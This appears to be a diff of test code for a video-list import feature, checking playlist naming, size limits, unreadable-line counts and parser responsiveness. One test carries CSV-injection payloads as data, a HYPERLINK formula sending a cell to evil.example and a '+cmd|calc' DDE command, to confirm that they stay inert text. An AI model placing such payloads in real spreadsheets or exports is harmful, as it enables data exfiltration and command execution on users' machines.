@@ -95,13 +95,85 @@ test('a long list is divided, and one that is too long is refused', async () => 
   expect(refused.status).toBe(413)
 })
 
-test('formulas and markup in a CSV stay words', () => {
+test('formulas and markup in a CSV stay words', async () => {
   const harmful =
     '=HYPERLINK("https://evil.example?v="&A1),2024-01-01T00:00:00Z\n+cmd|calc!A1,2024-01-01\n-dQw4w9WgXcQ,2024-01-01T00:00:00Z\n"dQw4w9WgXcQ",2024-01-01T00:00:00Z'
-  expect(readVideoList(harmful, '=1+1<b>-videos.csv')).toEqual({
+  expect(await readVideoList(harmful, '=1+1<b>-videos.csv', { left: 100 })).toEqual({
     isTakeout: true,
     name: '=1+1<b>',
     videoIds: ['dQw4w9WgXcQ'],
-    unreadable: [],
+    unreadable: 0,
+    unreadableNames: [],
   })
+})
+
+test('lists of one name become one playlist, and none is refused because another one has its name', async () => {
+  const ann = newPerson(server)
+  await ann.signUp()
+  const file = (text: string) => new TextEncoder().encode(text)
+  const ids = (letter: string, count: number) =>
+    Array.from({ length: count }, (_, index) => `${letter}${String(index).padStart(10, '0')}`)
+  const links = zipSync({ 'a.txt': file(ids('a', 300).join('\n')), 'b.txt': file(ids('b', 300).join('\n')) })
+  const done = await bring(ann, links as Uint8Array<ArrayBuffer>, 'links.zip')
+  const [first] = done.playlists
+  expect(done).toMatchObject({ counts: { videos: 600 }, playlists: [{}, { name: `${first?.name} (2)` }] })
+
+  const bob = newPerson(server)
+  await bob.signUp()
+  const rows = (letter: string, count: number) =>
+    file(
+      ids(letter, count)
+        .map((id) => `${id},2024-01-02T10:00:00+00:00`)
+        .join('\n'),
+    )
+  const long = 'Bees '.repeat(40)
+  const takeout = zipSync({
+    'here/Bees-videos.csv': rows('a', 501),
+    'there/Bees-videos.csv': rows('b', 1),
+    'here/Bees (2)-videos.csv': rows('c', 500),
+    [`here/${long}1-videos.csv`]: rows('d', 300),
+    [`here/${long}2-videos.csv`]: rows('e', 300),
+  })
+  const { playlists } = await bring(bob, takeout as Uint8Array<ArrayBuffer>, 'takeout.zip')
+  const cut = long.slice(0, 115).trim()
+  expect(playlists.map(({ name }) => name)).toEqual(['Bees', 'Bees (3)', 'Bees (2)', cut, `${cut} (2)`])
+})
+
+test('lines that are no video are counted, and five hundred of them are named', async () => {
+  const ann = newPerson(server)
+  await ann.signUp()
+  const words = Array.from({ length: 700 }, (_, index) => `no video ${index}`)
+  // A line of more than 300 characters is not searched for links.
+  const long = `https://youtu.be/jNQXAC9IVRw ${'x'.repeat(300)}`
+  const { counts } = await bring(ann, ['dQw4w9WgXcQ', long, ...words].join('\n'), 'links.txt')
+  expect(counts).toMatchObject({ videos: 1, unreadable: 701 })
+  expect(counts.unreadableNames).toHaveLength(500)
+})
+
+test('twenty thousand lines are read of all files together, and other requests go on meanwhile', async () => {
+  const ann = newPerson(server)
+  await ann.signUp()
+  const file = (lines: number) => new TextEncoder().encode(`dQw4w9WgXcQ${'\nno video'.repeat(lines - 1)}`)
+  const many = zipSync({ 'a.txt': file(10_000), 'b.txt': file(10_001) })
+  const refused = await ann.send('/api/import', { method: 'POST', body: many as Uint8Array<ArrayBuffer> })
+  expect(refused.status).toBe(413)
+  expect(await refused.text()).toContain('more than 20,000 lines')
+
+  let ticks = 0
+  let isRead = false
+  const tick = () => {
+    ticks++
+    if (!isRead) setImmediate(tick)
+  }
+  setImmediate(tick)
+  const harmful = `dQw4w9WgXcQ\n${`${')'.repeat(299)}a\n`.repeat(1998)}`
+  expect(await readVideoList(harmful, 'links.txt', { left: 2000 })).toMatchObject({ unreadable: 1998 })
+  isRead = true
+  expect(ticks).toBeGreaterThanOrEqual(19)
+})
+
+test('a long description does not hide the title of a playlist', async () => {
+  const described = older.replace('""",,', `""",${'about bees '.repeat(40)},`)
+  expect(described).not.toBe(older)
+  expect(await readVideoList(described, 'anything.csv', { left: 100 })).toMatchObject({ name: 'Bees, and "more"' })
 })
